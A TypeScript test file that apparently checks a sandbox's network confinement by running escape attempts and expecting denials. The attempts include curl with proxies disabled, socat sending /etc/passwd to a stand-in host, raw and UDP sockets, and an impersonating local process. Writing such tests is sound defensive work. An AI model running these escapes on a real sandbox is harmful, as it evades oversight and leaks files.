/** D: connections that ask nobody for a way out. [req: escape:network] */
import { existsSync, realpathSync } from 'node:fs';
import path from 'node:path';
import { type Attack, describeAttacks } from './attack.ts';
import type { Expected } from './expected.ts';
import { allowed, arrived, bare, denied, elsewhere, farOf, python, usual } from './far.ts';
import type { World } from './world.ts';

const curl = '/usr/bin/curl';
const programs = ['git', 'ssh', 'wget', 'openssl', 'socat'].map((name) => `/usr/bin/${name}`);
const static_ = (attack: string) => (world: World) => [
  path.join(world.tools, 'network'),
  attack,
  elsewhere,
  String(farOf(world).never.port),
  world.canary,
];
const connect = (world: World, times?: number, facts: object = {}): Expected => ({
  kind: 'deny',
  action: 'connect',
  destination: { ip: elsewhere, port: farOf(world).never.port, ...facts },
  ...(times === undefined ? {} : { times }),
});

/** Waits to be told where the session's sockets lead, and tries to be taken for them: from any port, from theirs at another address. */
const intruder = (world: World): string => `
print("ready", flush=True)
for _ in range(400):
    if os.path.exists("${world.open}/doors"): break
    time.sleep(0.05)
first, tcp, second, udp, *ports = open("${world.open}/doors").read().split()
name = "GET /${world.canary} HTTP/1.0\\r\\nHost: ${allowed}:${farOf(world).outside.ports.http}\\r\\n\\r\\n"
def enter(source):
    with socket.create_connection(("127.0.0.1", int(tcp)), 2, source) as s:
        s.settimeout(1); s.sendall(name.encode()); return all_of(s)
def ask_from(source):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.bind(source); s.sendto(question([b"web", b"allowed", b"test"]), ("127.0.0.1", int(udp))); s.recv(512)
        open("${world.open}/answered", "w").close()
for source in [("127.0.0.1", 0)] + [("127.0.0.2", int(one)) for one in ports]:
    attempt(source, enter, source); attempt(source, ask_from, source)
open("${world.open}/tried", "w").close()
time.sleep(30)`;

const attacks: readonly Attack[] = [
  {
    ...usual,
    id: 'D1',
    title: 'curl that is told to use no proxy, by address and by name',
    needs: [curl],
    command: (world) => {
      const { never, outside } = farOf(world);
      const line = `${curl} -sk --noproxy '*' --max-time 5`;
      return [
        '/bin/sh',
        '-c',
        `${line} http://${allowed}:${outside.ports.http}/fine; ${line} http://${elsewhere}:${never.port}/${world.canary}; ${line} http://${denied}:${never.port}/${world.canary}; ${line} --resolve ${denied}:${never.port}:${elsewhere} http://${denied}:${never.port}/${world.canary}; ${curl} -s --max-time 5 -x http://${elsewhere}:${never.port} http://${denied}:${never.port}/${world.canary}; true`,
      ];
    },
    record: (world) => [
      { ...connect(world, 3), by: curl },
      { kind: 'deny', action: 'resolve_name', destination: { host: denied }, by: curl },
    ],
  },
  {
    ...bare,
    id: 'D1',
    title: 'git, ssh, wget, openssl, socat and Node, by address',
    needs: programs,
    command: (world) => {
      const at = `${elsewhere}:${farOf(world).never.port}`;
      const [, port = ''] = at.split(':');
      const ssh = `ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=5 -p ${port} ${elsewhere} true`;
      const node = `require("net").connect(${port}, "${elsewhere}").on("error", () => {}).on("connect", process.exit)`;
      return [
        '/bin/sh',
        '-c',
        `exec </dev/null; timeout 2 git ls-remote git://${at}/x & timeout 2 ${ssh} & timeout 2 wget -q -t 1 -O- http://${at}/ & timeout 2 openssl s_client -connect ${at} & timeout 2 socat -u OPEN:/etc/passwd TCP:${at} & timeout 5 ${process.execPath} -e '${node}' & wait`,
      ];
    },
    record: (world) =>
      [...programs, process.execPath].map((by) => ({ ...connect(world, 1), by: realpathSync(by) })),
  },
  {
    ...bare,
    id: 'D1',
    title: 'static program: every way to open a stream, also without connect',
    command: static_('streams'),
    record: (world) => [connect(world, undefined, { protocol: 'tcp' })],
  },
  {
    ...bare,
    id: 'D11',
    title: 'datagrams, as QUIC uses them: sendto, sendmsg, sendmmsg, connected, UDP-Lite',
    command: static_('datagrams'),
    record: (world) => [connect(world, undefined, { protocol: 'udp' })],
  },
  {
    ...usual,
    id: 'D11',
    title: 'ICMP, raw, packet, vsock and XDP sockets',
    command: static_('others'),
    won: (_, run) => /GAINED|PING ANSWERED/.test(run.output),
    control: ({ user }) =>
      user === 'user' && process.getuid?.() === 0 ? { none: 'most of these sockets are root’s' } : undefined,
    record: () => [{ kind: 'refusal', call: 'socket:' }],
  },
  {
    ...usual,
    id: 'D11',
    title: 'datagrams to an allowed host, past rules about requests',
    policy: 'requests',
    command: (world) => {
      const { outside, datagrams } = farOf(world);
      return python(`
attempt("fine", say, "${allowed}", ${outside.ports.http}, "GET /fine HTTP/1.0\\r\\nHost: ${allowed}:${outside.ports.http}\\r\\n\\r\\n")
def sent(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((host, ${datagrams.port}))
        s.send(b"${world.canary}")
attempt("connected", sent, "${allowed}")
attempt("addressed", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${world.canary}", ("127.0.0.1", ${datagrams.port})))
time.sleep(0.1)`);
    },
    record: (world) => [
      {
        kind: 'refusal',
        call: 'uninspectable',
        destination: { ip: '127.0.0.1', port: farOf(world).datagrams.port, protocol: 'udp' },
        times: 2,
      },
    ],
  },
  {
    ...usual,
    id: 'D19',
    title: 'allowed host at another port',
    policy: 'ports',
    command: (world) => {
      const { outside, sink } = farOf(world);
      return python(`
at = "${allowed}:${outside.ports.http}"
attempt("fine", say, "${allowed}", ${outside.ports.http}, f"GET /fine HTTP/1.0\\r\\nHost: {at}\\r\\n\\r\\n")
attempt("other port", say, "${allowed}", ${sink.port}, f"GET /${world.canary} HTTP/1.0\\r\\nHost: {at}\\r\\n\\r\\n")
attempt("by address", say, "127.0.0.1", ${sink.port}, "${world.canary}")
attempt("another in Host", say, "${allowed}", ${outside.ports.http}, "GET /${world.canary} HTTP/1.0\\r\\nHost: ${allowed}:${sink.port}\\r\\n\\r\\n")`);
    },
    record: (world) => [
      {
        kind: 'deny',
        action: 'connect',
        destination: { host: allowed, port: farOf(world).sink.port },
        times: 2,
      },
      { kind: 'refusal', call: 'host_mismatch', times: 1 },
    ],
  },
  {
    ...usual,
    id: 'D17',
    title: 'another program of this machine goes out through what listens for the session',
    skip: ({ isolation }) =>
      isolation === 'namespace' ? 'nothing of the session listens outside of its own network' : undefined,
    prepare: (world) => world.startOutside(python(intruder(world))),
    command: (world) => {
      const { outside, never } = farOf(world);
      return python(`
at = "${allowed}:${outside.ports.http}"
attempt("fine", say, "${allowed}", ${outside.ports.http}, f"GET /fine HTTP/1.0\\r\\nHost: {at}\\r\\n\\r\\n")
with stream("${allowed}", ${outside.ports.http}) as s, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
    u.connect((nameserver(), 53))
    u.send(question([b"web", b"allowed", b"test"]))
    u.recv(4096)
    mine = {str(os.fstat(one.fileno()).st_ino): str(one.getsockname()[1]) for one in (s, u)}
    doors = set()
    for kind in ("tcp", "udp"):
        for line in open("/proc/self/net/" + kind).readlines()[1:]:
            if line.split()[9] in mine: doors.add(kind + " " + str(int(line.split()[2].split(":")[1], 16)))
    tell(doors)
    with open("${world.open}/new", "w") as f: f.write(" ".join(sorted(doors)) + " " + " ".join(mine.values()))
    os.rename("${world.open}/new", "${world.open}/doors")
    for _ in range(100):
        if os.path.exists("${world.open}/tried"): break
        time.sleep(0.05)
    tell(os.path.exists("${world.open}/tried"))
try: say("${elsewhere}", ${never.port}, "${world.canary}")
except OSError: pass`);
    },
    won: async (world, run) =>
      !run.output.includes('True') || existsSync(path.join(world.open, 'answered')) || (await arrived(world)),
    record: (world) => [connect(world, 1)],
  },
];

describeAttacks('network-direct', ['network'], attacks);
